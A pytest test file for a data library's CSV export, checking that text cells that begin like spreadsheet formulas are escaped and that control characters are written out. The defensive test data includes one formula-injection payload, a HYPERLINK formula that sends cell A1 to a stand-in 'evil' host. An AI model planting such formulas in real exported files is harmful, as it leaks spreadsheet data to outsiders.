"""Tables run nothing in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

import dtpscore as dtp
from dtpscore._csv import literal, literal_frame
from dtpscore.errors import DataError

FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\n=1", "-"])
def test_a_text_that_begins_like_a_formula_is_made_literal(text):
    assert literal(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-0.5", "+1e-3", "-inf", "a=b", "1+1", "", "'=1"])
def test_numbers_and_other_texts_stay(text):
    assert literal(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [("\t=1", "\\t=1"), ("\r=1", "\\r=1"), ("a\x1b[31m", "a\\x1b[31m")],
)
def test_control_characters_are_written_out(text, written):
    assert literal(text) == written


@pytest.mark.parametrize("value", [-0.5, -3, np.nan, None, True, np.float32(-1)])
def test_values_that_are_no_text_stay(value):
    assert literal(value) is value


def test_headings_rows_texts_and_categories_are_literal_and_numbers_stay(tmp_path):
    frame = pd.DataFrame(
        {
            FORMULA: [-1.5, 2.0],
            "text": [FORMULA, None],
            "kind": pd.Categorical(["@x", "y"]),
        },
        index=["-a", "b"],
    )
    before = frame.copy()
    dtp.get.to_csv(frame, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["", f"'{FORMULA}", "text", "kind"]
    assert rows[1] == ["'-a", "-1.5", f"'{FORMULA}", "'@x"]
    assert rows[2] == ["b", "2.0", "", "y"]
    pd.testing.assert_frame_equal(frame, before)


def test_a_frame_without_texts_is_not_changed():
    frame = pd.DataFrame({"a": [-1.0, 2.0]}, index=[3, 4])
    pd.testing.assert_frame_equal(literal_frame(frame), frame)


def test_a_name_with_a_line_break_is_one_cell(tmp_path):
    frame = pd.DataFrame({"group": ["a\nb", "c\rd"], "n": [1, 2]})
    dtp.get.to_csv(frame, tmp_path / "a.csv", index=False)
    with (tmp_path / "a.csv").open(newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["group", "a\nb", "c\\rd"]


def test_a_file_that_cannot_be_written_is_one_error(tmp_path):
    with pytest.raises(DataError, match="cannot be written"):
        dtp.get.to_csv(pd.DataFrame({"a": [1]}), tmp_path / "no" / "a.csv")
